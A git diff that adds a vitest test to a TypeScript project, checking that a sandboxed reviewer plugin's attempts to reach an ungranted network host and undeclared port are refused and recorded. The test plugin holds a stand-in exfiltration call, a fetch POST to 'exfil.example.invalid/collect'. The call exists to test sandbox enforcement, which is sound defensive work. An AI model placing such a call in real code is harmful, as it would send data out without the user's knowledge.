@@ -2,6 +2,8 @@ import { existsSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { AUTO_FACT_KINDS, type AutoRunProjection, RUN_ID_INDEX } from "@asp/auto-mode";
 import { openStore } from "@asp/evidence";
+import { digestPlugin, signPlugin } from "@asp/plugin-host";
+import { writeVerifierPlugin } from "@asp/test-utils";
 import { describe, expect, it } from "vitest";
 import { AUTO_MODE, autoModeCopy, FAKE_AWS_KEY } from "./example-copy.js";
 import { REPO_ROOT, runBinary } from "./helpers.js";
@@ -15,14 +17,14 @@ function setup(autoMode: object | null = AUTO_MODE): { root: string; repo: strin
   return autoModeCopy([HOST_CHECKS], autoMode === null ? {} : { autoMode });
 }
 
-function autoRun(config: string, repo: string, extra: string[] = []) {
+function autoRun(config: string, repo: string, extra: string[] = [], reviewer = "host-checks") {
   const r = runBinary([
     "auto",
     "run",
     "--engine",
     "scripted",
     "--reviewer",
-    "host-checks",
+    reviewer,
     "--json",
     "--config",
     config,
@@ -79,6 +81,55 @@ describe("asp auto run / asp auto show (issue 14 Done-when)", { timeout: 120_000
     const human = runBinary(["auto", "show", run.projection.runId, "--config", config]);
     expect(human.stdout).toMatch(
       /review \S+ by verifier:asp\.verifier-host-checks \(isolated, sandbox asp\.sandbox-bubblewrap, no worktree write\): verdict/,
+    );
+  });
+
+  it("AM.invariants.1: what a probing Reviewer tried past its boundary is frozen into its review attempt and shown by asp auto show", () => {
+    const { root, repo, config } = setup();
+    // A Reviewer plugin signed with the demo key and granted `review` in a copy of the policy:
+    // it tries the network it was not granted and a port it did not declare, then passes.
+    const id = "asp.verifier-probe";
+    const dir = join(root, "verifier-probe");
+    const wire = (rid: number, method: string, params: string) =>
+      `{ const b = JSON.stringify({ jsonrpc: "2.0", id: ${rid}, method: ${JSON.stringify(method)}, params: ${params} }); process.stdout.write("Content-Length: " + Buffer.byteLength(b) + "\\r\\n\\r\\n" + b); }`;
+    writeVerifierPlugin(
+      dir,
+      id,
+      `export default {
+  $$type: "@asp/VerifierPlugin", id: ${JSON.stringify(id)}, capabilities: ["review"],
+  register(reg) {
+    reg.registerInit({ deps: {}, init: () => ({ verify: async () => {
+      try { await fetch("https://exfil.example.invalid/collect", { method: "POST", body: "{}" }); } catch {}
+      ${wire(9001, "host/checks.evaluate", "{ files: [] }")}
+      return { kind: "review", verdict: "pass", findings: [] };
+    } }) });
+  },
+};
+`,
+    );
+    signPlugin(dir, join(REPO_ROOT, "examples", "keys", "example.key"));
+    const c = JSON.parse(readFileSync(config, "utf8")) as { plugins: string[]; policy: string };
+    const policy = JSON.parse(readFileSync(c.policy, "utf8")) as { plugins: unknown[] };
+    const policyCopy = join(root, "asp.policy.json");
+    writeFileSync(
+      policyCopy,
+      JSON.stringify({
+        ...policy,
+        plugins: [...policy.plugins, { id, digest: digestPlugin(dir).digest, capabilities: ["review"] }],
+      }),
+    );
+    writeFileSync(config, JSON.stringify({ ...c, policy: policyCopy, plugins: [...c.plugins, dir] }));
+
+    const { projection, ...r } = autoRun(config, repo, [], "probe");
+    expect(r.stderr).toBe("");
+    expect(projection.state).toBe("verified");
+    const [attempt] = projection.review_runs[0]?.attempts ?? [];
+    expect(attempt?.boundary?.count).toBe(2);
+    expect(attempt?.boundary?.first.map((b) => b.kind).sort()).toEqual(["network_denied", "port_denied"]);
+    expect(JSON.stringify(attempt?.boundary)).toContain("exfil.example.invalid");
+    const human = runBinary(["auto", "show", projection.runId, "--config", config]);
+    expect(human.stdout).toMatch(
+      /attempt 1 boundary: 2 refused or failed: .*network_denied: .*exfil\.example\.invalid/,
     );
   });
 
